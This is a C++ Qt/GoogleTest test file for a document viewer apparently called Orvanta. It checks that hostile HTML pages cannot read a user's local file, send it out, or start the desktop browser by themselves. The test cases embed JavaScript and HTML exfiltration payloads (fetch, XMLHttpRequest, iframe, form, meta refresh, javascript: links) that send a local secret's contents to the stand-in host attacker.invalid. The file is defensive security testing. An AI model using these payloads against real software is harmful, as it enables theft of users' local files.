// Pages written to do harm, each opened in the real document view: none may
// read a file of the user's outside its collection, send anything out, or
// start the desktop's browser by itself. The browser is started by a stand-in
// `xdg-open` first on PATH that only writes down what it was asked to open,
// and every request the engine makes is written down as well.
#include "PageProbe.h"

#include "platform/files/Paths.h"
#include "platform/ui/DocumentView.h"
#include "support/Fixtures.h"

#include <QDir>
#include <QFile>
#include <QImage>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineProfile>
#include <QWebEngineUrlRequestInterceptor>

#include <gtest/gtest.h>

#include <functional>
#include <mutex>

using namespace Orvanta;
using namespace Orvanta::Test;

namespace {

const QByteArray kSecret = "TOPSECRET-42";

// Every URL the engine asked for, whatever the page's own guard then did.
class RequestLog : public QWebEngineUrlRequestInterceptor {
public:
    void interceptRequest(QWebEngineUrlRequestInfo& info) override
    {
        std::lock_guard lock(m_mutex);
        m_urls << info.requestUrl().toString();
    }
    QStringList urls() const
    {
        std::lock_guard lock(m_mutex);
        return m_urls;
    }

private:
    mutable std::mutex m_mutex;
    QStringList m_urls;
};

class HostilePage : public ::testing::Test {
protected:
    void SetUp() override
    {
        ASSERT_TRUE(dir.isValid());
        root = QDir(dir.path()).canonicalPath();
        collection = root + "/coll";
        secret = writeFile(root + "/home/secret.txt", kSecret);
        QImage picture(8, 6, QImage::Format_RGB32);
        picture.fill(Qt::red);
        QDir().mkpath(collection + "/data");
        ASSERT_TRUE(picture.save(collection + "/data/p.png"));
        writeFile(collection + "/data/other.htm", "<html><body><p>OTHER-PAGE</p></body></html>");
        Paths::setInstallFolderForTesting(collection);

        // The desktop's browser, as a stand-in that writes down its arguments.
        opened = root + "/xdg-open.log";
        writeFile(root + "/bin/xdg-open", "#!/bin/sh\necho \"$*\" >> '" + opened.toUtf8() + "'\n");
        QFile::setPermissions(root + "/bin/xdg-open", QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        savedPath = qgetenv("PATH");
        qputenv("PATH", QFile::encodeName(root + "/bin") + ":" + savedPath);

        view.resize(700, 500);
        view.show();
        view.page()->profile()->setUrlRequestInterceptor(&log);
    }
    void TearDown() override
    {
        view.page()->profile()->setUrlRequestInterceptor(nullptr);
        qputenv("PATH", savedPath);
        Paths::setInstallFolderForTesting({});
    }

    QStringList openedUrls() const
    {
        QFile f(opened);
        if (!f.open(QIODevice::ReadOnly))
            return {};
        return QString::fromUtf8(f.readAll()).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    }

    // Shows `body` as a page of the collection and gives its scripts time.
    void show(const QByteArray& body)
    {
        const QString page = writeFile(collection + "/data/page.htm",
                                       "<html><head><meta charset=utf-8></head><body><p id=here>HERE</p>" + body
                                           + "</body></html>");
        QSignalSpy finished(&view, &QWebEngineView::loadFinished);
        view.navigate(QString(page).replace(QLatin1Char('/'), QLatin1Char('\\')));
        ASSERT_TRUE(finished.wait(30000));
        QTest::qWait(1500);
    }

    QTemporaryDir dir;
    QString root;
    QString collection;
    QString secret;
    QString opened;
    QByteArray savedPath;
    RequestLog log;
    DocumentView view;
};

struct Case {
    const char* name;
    QByteArray body;
    QString clicked;    // an element the user then clicks, if any
    QString opensWith;  // what the desktop's browser is asked to open, if anything
    QString showsAfter; // text on screen at the end
};

TEST_F(HostilePage, APageIsContentNeverAProgram)
{
    const QByteArray file = QUrl::fromLocalFile(secret).toEncoded();
    const QByteArray exfiltrate = "location.href='https://attacker.invalid/?d='+encodeURIComponent(t)";
    const std::vector<Case> cases = {
        {"fetch of a local file", "<script>fetch('" + file + "').then(function(r){return r.text()})"
                                  ".then(function(t){" + exfiltrate + "})</script>", {}, {}, "HERE"},
        {"XMLHttpRequest of a local file", "<script>var x=new XMLHttpRequest();x.open('GET','" + file +
                                               "',false);x.send();var t=x.responseText;" + exfiltrate + "</script>",
         {}, {}, "HERE"},
        {"a frame of a local file", "<iframe id=f src='" + file + "' onload=\"var t=this.contentDocument.body"
                                    ".innerText;" + exfiltrate + "\"></iframe>", {}, {}, "HERE"},
        {"a picture's error handler", "<img src='nothing.png' onerror=\"location.href='https://attacker.invalid/img'\">",
         {}, {}, "HERE"},
        {"location.href", "<script>location.href='https://attacker.invalid/now'</script>", {}, {}, "HERE"},
        {"window.open", "<script>window.open('https://attacker.invalid/open')</script>", {}, {}, "HERE"},
        {"a meta refresh", "<meta http-equiv=refresh content=\"0;url=https://attacker.invalid/meta\">", {}, {},
         "HERE"},
        {"a form sent by a script", "<form id=f action='https://attacker.invalid/form'><input name=d value=x>"
                                    "</form><script>document.getElementById('f').submit()</script>", {}, {}, "HERE"},
        {"a form the user sends", "<form action='https://attacker.invalid/form'><input type=submit id=go "
                                  "value=SEND style='width:200px;height:60px'></form>", "#go", {}, "HERE"},
        {"a script link the user clicks", "<a id=go href=\"javascript:location.href='https://attacker.invalid/js'\""
                                          " style='font-size:40px'>GO</a>", "#go", {}, "HERE"},
        {"an onclick that sets location", "<a id=go href='#' onclick=\"location.href='https://attacker.invalid/c';"
                                          "return false\" style='font-size:40px'>GO</a>", "#go", {}, "HERE"},
        {"a link to a file outside", "<a id=go href='" + file + "' style='font-size:40px'>GO</a>", "#go", {},
         "HERE"},
        {"a link to a page of the collection", "<a id=go href='other.htm' style='font-size:40px'>GO</a>", "#go", {},
         "OTHER-PAGE"},
        {"a web link the user clicks", "<a id=go href='https://example.org/book' style='font-size:40px'>GO</a>",
         "#go", "https://example.org/book", "HERE"},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        QFile::remove(opened);
        show(c.body);
        if (!c.clicked.isEmpty()) {
            ASSERT_TRUE(clickElement(view, c.clicked));
            QTest::qWait(1500);
        }
        if (c.opensWith.isEmpty()) {
            EXPECT_TRUE(openedUrls().isEmpty()) << openedUrls().join(' ').toStdString();
        } else {
            EXPECT_TRUE(QTest::qWaitFor([&] { return !openedUrls().isEmpty(); }, 10000));
            EXPECT_EQ(openedUrls(), QStringList{c.opensWith});
        }
        EXPECT_TRUE(showsText(view, c.showsAfter)) << bodyText(view).toStdString();
        EXPECT_EQ(view.url().scheme(), QStringLiteral("file"));
        for (const QString& url : log.urls())
            EXPECT_FALSE(url.contains(QLatin1String(kSecret))) << url.toStdString();
        EXPECT_FALSE(bodyText(view).contains(QLatin1String(kSecret)));
    }
}

// What honest pages need still works: pictures beside them and anchors.
TEST_F(HostilePage, PicturesAndAnchorsOfAnHonestPageStillWork)
{
    show("<img id=pic src='p.png'><a id=go href='#end' style='font-size:40px'>GO</a>"
         "<div style='height:3000px'></div><p id=end>END</p>");
    EXPECT_TRUE(QTest::qWaitFor(
        [&] { return evaluate(view.page(), "document.getElementById('pic').naturalWidth").toInt() == 8; }, 20000));
    ASSERT_TRUE(clickElement(view, "#go"));
    EXPECT_TRUE(QTest::qWaitFor([&] { return view.url().fragment() == QLatin1String("end"); }, 10000))
        << view.url().toString().toStdString();
    EXPECT_TRUE(openedUrls().isEmpty());
}

} // namespace
